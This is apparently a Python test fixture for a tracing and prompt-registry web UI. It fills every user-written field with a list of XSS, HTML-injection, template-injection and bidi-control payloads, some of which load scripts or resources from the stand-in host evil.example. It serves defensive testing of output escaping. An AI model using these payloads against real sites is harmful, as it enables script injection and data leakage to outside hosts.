"""Texts that would run a script, send a request or break out of their place if a page let them."""

from __future__ import annotations

from trunkline.store.control import now_micros
from trunkline.types import JSON, Actor, ActorKind, Change, Level, Message, ObservationType, ScoreType, Variable
from ui.world import World, chat, encoded, observation_change, score_change, text, trace_change

PAYLOADS = [
    "<script>window.hit=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<<script>script>window.hit=1<</script>/script>",
    "</script><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea></pre></code><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<body onpageshow=window.hit=1>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<form action=https://evil.example><button autofocus>x</button></form>",
    "<div hx-get=/hostile-request hx-trigger=load>x</div>",
    "<div data-hx-get=/hostile-request data-hx-trigger=load hx-on::load=window.hit=1>x</div>",
    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1" x="',
    "' onfocus='window.hit=1' autofocus x='",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}",
    "![x](https://evil.example/x.png) [x](javascript:window.hit=1)",
    "\u202e\u2066<script>window.hit=1</script>\u2069",
    "&lt;script&gt;window.hit=1&lt;/script&gt;&#60;img src=x onerror=window.hit=1&#62;",
    "--><script>window.hit=1</script><!--",
    "]]><script>window.hit=1</script>",
]


def hostile_trace(number: int, payload: str, now: int) -> list[Change]:
    """The payload in every field that a client writes."""
    trace_id = f"hostile-{number}"
    message: dict[str, JSON] = {
        "role": payload,
        "name": payload,
        "content": [{"type": payload, "text": payload}, {"type": "image_url", "image_url": {"url": payload}}],
        "tool_calls": [{"function": {"name": payload, "arguments": encoded({payload: payload}).decode()}}],
    }
    return [
        trace_change(
            trace_id,
            now + number,
            name=payload,
            user_id=payload,
            session_id=payload,
            release=payload,
            version=payload,
            tags=[payload],
            input=encoded(payload),
            output=encoded([message]),
            metadata=encoded({payload: [payload]}),
        ),
        observation_change(
            trace_id,
            f"{trace_id}-{payload}",
            now + number,
            now + number + 1000,
            name=payload,
            type=ObservationType.GENERATION,
            level=Level.ERROR,
            status_message=payload,
            version=payload,
            model=payload,
            model_parameters=encoded({payload: payload}),
            usage={payload: 5},
            cost={payload: 0.1},
            prompt_name=payload,
            prompt_version=1,
            input=encoded([message, {"role": "user", "content": payload}]),
            output=encoded({"role": "assistant", "content": payload}),
            metadata=encoded({payload: payload}),
        ),
        score_change(
            f"score-{number}",
            now + number,
            payload[:200],
            data_type=ScoreType.CATEGORICAL,
            string_value=payload,
            comment=payload,
            trace_id=trace_id,
        ),
        score_change(
            f"score-o-{number}",
            now + number,
            payload[:200],
            value=0.5,
            comment=payload,
            trace_id=trace_id,
            observation_id=f"{trace_id}-{payload}",
        ),
    ]


def hostile_prompts(world: World) -> None:
    """One prompt that holds all payloads in every place, another with one version and one commit message for each."""
    actor = Actor(kind=ActorKind.USER, name="<img src=x onerror=window.hit=1>", email="x@example.com")
    messages: list[Message] = [{"role": "user", "content": payload} for payload in PAYLOADS]
    messages += [{"role": "system", "content": f"{{{{{payload}}}}}"} for payload in PAYLOADS]
    variables = {f"v{n}": Variable(description=payload) for n, payload in enumerate(PAYLOADS)}
    config = {payload: [payload] for payload in PAYLOADS}
    every = chat(messages, config=config, tags=tuple(PAYLOADS), variables=variables)
    world.registry.create_version("hostile/every", every, actor=actor, message="\n".join(PAYLOADS))
    for payload in PAYLOADS:
        content = text(f"before {payload} after\nsecond line", config={"payload": payload})
        world.registry.create_version("hostile/each", content, actor=actor, message=payload)


def seed_hostile(world: World) -> list[tuple[str, str]]:
    """Fills the world; gives (trace id, observation id) of each payload."""
    now = now_micros()
    places = []
    for number, payload in enumerate(PAYLOADS):
        world.write(hostile_trace(number, payload, now))
        places.append((f"hostile-{number}", f"hostile-{number}-{payload}"))
    hostile_prompts(world)
    return places
